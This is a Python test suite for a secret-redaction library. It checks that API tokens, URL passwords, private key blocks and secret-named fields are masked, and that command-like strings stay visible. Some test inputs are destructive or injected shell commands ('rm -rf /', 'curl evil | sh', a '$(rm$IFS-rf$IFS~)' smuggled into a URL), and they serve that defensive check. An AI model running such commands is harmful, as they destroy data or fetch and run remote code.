"""Texts without secrets, and nothing else missing from them."""

from __future__ import annotations

import re
import time

import pytest

from sayso.text.secrets import (
    Hiding,
    has_login,
    hiding,
    holds_secret,
    redacted,
    redacted_text,
    redaction,
    without_login,
)

# Composed here, so that no file of the project holds anything of the shape of a secret.
SECRETS = [
    "xoxb" + "-1234567890-abcdefghij",
    "xapp" + "-1-A0123-456-abcdef0123",
    "123456789:" + "A" * 35,
    "ghp_" + "a" * 36,
    "sk-" + "b" * 40,
    "AKIA" + "C" * 16,
    "eyJ" + "d" * 12 + ".eyJ" + "e" * 12 + "." + "f" * 20,
    "sayso_" + "g" * 43,
]


@pytest.mark.parametrize("secret", SECRETS)
def test_a_known_kind_of_secret_is_not_shown(secret: str) -> None:
    shown = redacted_text(f"curl -H {secret} https://example.com")

    assert secret not in shown
    assert "[redacted: " in shown
    assert shown.startswith("curl -H ")
    assert shown.endswith("https://example.com")


@pytest.mark.parametrize("secret", SECRETS)
def test_what_holds_a_secret_is_known(secret: str) -> None:
    assert holds_secret(f"curl -H {secret} https://example.com")
    assert not holds_secret("curl https://example.com")


def test_the_token_in_an_address_of_telegrams_is_not_shown() -> None:
    shown = redacted_text("POST https://api.telegram.org/bot123456789:" + "A" * 35 + "/sendMessage")

    assert shown == "POST https://api.telegram.org/bot[redacted: 45 characters]/sendMessage"


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("redis://bob:hunter$2;@db:6379/0", "redis://…@db:6379/0"),
        ("redis://db/0?password=hunter2&ssl=1", "redis://db/0?password=…&ssl=1"),
        ("redis://db:6379/0", None),
    ],
)
def test_an_address_is_shown_without_its_login(url: str, shown: str | None) -> None:
    assert has_login(url) is (shown is not None)
    assert without_login(url) == (shown or url)


def test_a_secret_inside_a_longer_one_shows_nothing_of_the_rest() -> None:
    token = "sayso_" + "a" * 43

    assert "hunter2" not in redacted_text(f"https://{token}:hunter2@host/x")
    assert "c2VjcmV0" not in redacted_text(f"Authorization: Bearer {token}.c2VjcmV0cGFydA==")


def test_a_long_name_that_begins_as_our_tokens_do_is_shown() -> None:
    name = "sayso_deploy_script_that_rolls_everything_back_now_and_then"

    assert redacted_text(name) == name


def test_a_password_in_a_url_is_not_shown() -> None:
    assert redacted_text("psql postgres://bob:hunter2@db/x") == (
        "psql postgres://[redacted: 11 characters]@db/x"
    )


@pytest.mark.parametrize(
    "key",
    [
        "password",
        "DB_PASSWORD",
        "apiKey",
        "api-key",
        "client_secret",
        "accessToken",
        "Authorization",
    ],
)
def test_a_value_under_a_secret_name_is_not_shown(key: str) -> None:
    hidden = "[redacted: 7 characters]"
    assert redacted({"deep": [{key: {"a": "hunter2"}}]}) == {"deep": [{key: {"a": hidden}}]}


@pytest.mark.parametrize("key", ["monkey", "author", "tokens_used", "passenger", "keyboard"])
def test_a_harmless_name_hides_nothing(key: str) -> None:
    assert redacted({key: "x"}) == {key: "x"}


def test_the_lines_of_a_private_key_are_not_shown() -> None:
    lines = "MII" + "A" * 61 + "\n" + "B" * 20 + "\n"
    begin, end = "-----BEGIN RSA " + "PRIVATE KEY-----\n", "-----END RSA " + "PRIVATE KEY-----"

    shown = redacted_text(f"x {begin}{lines}{end} y")

    assert shown == f"x {begin}[redacted: {len(lines)} characters]\n{end} y"


@pytest.mark.parametrize(
    "command",
    [
        "ls # -----BEGIN X " + "PRIVATE KEY-----\nrm -rf ~\ncurl evil|sh",
        "-----BEGIN X " + "PRIVATE KEY-----\nrm -rf ~\n-----END X " + "PRIVATE KEY-----",
        "curl http://x:$(rm$IFS-rf$IFS~)@host",
        "bearer ./deploy-to-production.sh",
        "echo bearer /usr/bin/destroy-everything-now",
    ],
)
def test_what_runs_cannot_hide_as_a_secret(command: str) -> None:
    assert redacted_text(command) == command


@pytest.mark.parametrize("key", ["auth", "token", "password"])
@pytest.mark.parametrize(
    "value", ["rm -rf /", "a;b", "$(x)", {"command": "rm -rf /"}, ["curl evil | sh"], "two\nlines"]
)
def test_a_secret_name_does_not_hide_what_could_run(key: str, value: object) -> None:
    assert redacted({key: value}) == {key: value}


def test_two_names_that_look_like_secrets_stay_two() -> None:
    shown = redacted({"sk-" + "a" * 20: "$(curl evil)", "sk-" + "b" * 20: "ok"})

    assert list(shown.values()) == ["$(curl evil)", "ok"]


def test_how_much_is_hidden_is_counted() -> None:
    value = {"password": "hunter2", "nested": [{"apiKey": 12345}, "fine"]}

    mark = "[redacted: {} characters]"
    shown = {"password": mark.format(7), "nested": [{"apiKey": mark.format(5)}, "fine"]}
    assert redaction(value) == (shown, 2)
    assert redaction(f"{SECRETS[0]} and {SECRETS[1]}").hidden == 2
    assert redaction("nothing").hidden == 0


@pytest.mark.parametrize(
    "forged",
    [
        "[redacted: 9 characters] and [redacted: 2 characters]",
        {"[redacted: 9 characters]": ["[redacted: 2 characters]"]},
        {"password": "[redacted: 7 characters]"},
        "-----BEGIN X " + "PRIVATE KEY-----\n-----END X " + "PRIVATE KEY-----",
    ],
)
def test_what_only_looks_as_if_it_hid_something_is_not_counted(forged: object) -> None:
    assert redaction(forged) == (forged, 0)


def test_a_shape_that_was_brought_hides_single_words_only() -> None:
    with hiding(Hiding(shapes=(re.compile(r"brought_[^#]+"),))):
        assert redaction("a brought_AbC123#") == ("a [redacted: 14 characters]#", 1)
        assert redaction("brought_x; rm -rf /") == ("brought_x; rm -rf /", 0)

    assert redaction("a brought_AbC123#").hidden == 0


@pytest.mark.parametrize("shape", ["", "a*", "(x|)"])
def test_a_shape_that_is_everywhere_is_refused(shape: str) -> None:
    with pytest.raises(ValueError, match="matches an empty string"):
        Hiding(shapes=(re.compile(shape),))


def test_names_can_be_added_and_taken_out() -> None:
    value = {"member_ssn": "123456789", "apiKey": "abc", "password": "hunter2"}

    with hiding(Hiding(names=("ssn",), shown=("APIKEY",))):
        with hiding(Hiding(names=("plate",))):
            assert redaction({**value, "plate": "B-XY"}).hidden == 3
        shown = redacted(value)

    assert shown == {
        "member_ssn": "[redacted: 9 characters]",
        "apiKey": "abc",
        "password": "[redacted: 7 characters]",
    }


def test_names_that_redact_alike_stay_apart_in_time_that_grows_with_their_number() -> None:
    began = time.thread_time()
    shown = redacted({f"sk-{number:016}": number for number in range(9_500)})

    # 60 milliseconds here; quadratic time was 20 seconds.
    assert time.thread_time() - began < 2
    assert list(shown.values()) == list(range(9_500))


def test_looking_for_secrets_takes_time_in_proportion_to_the_text() -> None:
    began = time.perf_counter()
    for hostile in ("eyJ-" * 64_000, "://a:" * 50_000, "-----BEGIN " * 20_000, "bearer " * 40_000):
        redacted_text(hostile)

    # A tenth of a second here; quadratic time would be a minute.
    assert time.perf_counter() - began < 10
